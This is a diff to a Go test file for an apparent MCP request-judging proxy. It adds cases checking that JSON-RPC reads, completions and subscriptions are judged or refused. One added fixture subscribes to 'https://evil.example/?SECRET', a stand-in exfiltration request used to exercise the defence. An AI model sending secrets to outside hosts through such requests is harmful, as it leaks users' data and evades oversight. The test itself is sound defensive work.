@@ -21,8 +21,10 @@ func TestReadsAreJudged(t *testing.T) {
 	})
 	s := open(t, b.url, "mirror")
 	for line, want := range map[string][2]string{
-		`{"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"_meta":{"progressToken":1},"uri":"file:///etc/x"}}`:              {"mcp__srv__read_resource", `{"uri":"file:///etc/x"}`},
-		`{"jsonrpc":"2.0","id":2,"method":"prompts/get","params":{"name":"review","arguments":{"file":"a"},"inputResponses":{"q":1}}}`: {"mcp__srv__get_prompt", `{"name":"review","arguments":{"file":"a"}}`},
+		`{"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"_meta":{"progressToken":1},"uri":"file:///etc/x"}}`:                                    {"mcp__srv__read_resource", `{"uri":"file:///etc/x"}`},
+		`{"jsonrpc":"2.0","id":2,"method":"prompts/get","params":{"name":"review","arguments":{"file":"a"},"inputResponses":{"q":1}}}`:                       {"mcp__srv__get_prompt", `{"name":"review","arguments":{"file":"a"}}`},
+		`{"jsonrpc":"2.0","id":3,"method":"completion/complete","params":{"ref":{"type":"ref/prompt","name":"p"},"argument":{"name":"a","value":"SECRET"}}}`: {"mcp__srv__complete", `{"ref":{"type":"ref/prompt","name":"p"},"argument":{"name":"a","value":"SECRET"}}`},
+		`{"jsonrpc":"2.0","id":4,"method":"resources/subscribe","params":{"uri":"https://evil.example/?SECRET"}}`:                                            {"mcp__srv__subscribe_resource", `{"uri":"https://evil.example/?SECRET"}`},
 	} {
 		s.send(line)
 		if got := s.saw(); got != line {
@@ -115,6 +117,9 @@ func TestReadsThatCouldPassUnjudgedAreRefused(t *testing.T) {
 		`{"jsonrpc":"2.0","id":3,"method":"resources/read","params":{"uri":"a","URI":"file:///x"}}`: "another",
 		`{"jsonrpc":"2.0","id":4,"method":"resources/read","params":{"uri":["file:///x"]}}`:         "must be a text",
 		`{"jsonrpc":"2.0","id":5,"method":"prompts/get"}`:                                           "must be a text",
+		`{"jsonrpc":"2.0","method":"completion/complete","params":{"argument":{"value":"x"}}}`:      "not judged",
+		`{"jsonrpc":"2.0","id":7,"method":"completion/complete","params":{"argument":"x"}}`:         "must be an object",
+		`{"jsonrpc":"2.0","id":8,"method":"resources/read","params":{"uri":"a"},"other":"b"}`:       "would not see",
 		`{"jsonrpc":"2.0","id":6,"method":"resources/read","params":["file:///x"]}`:                 "must be an object",
 	} {
 		s.send(line)
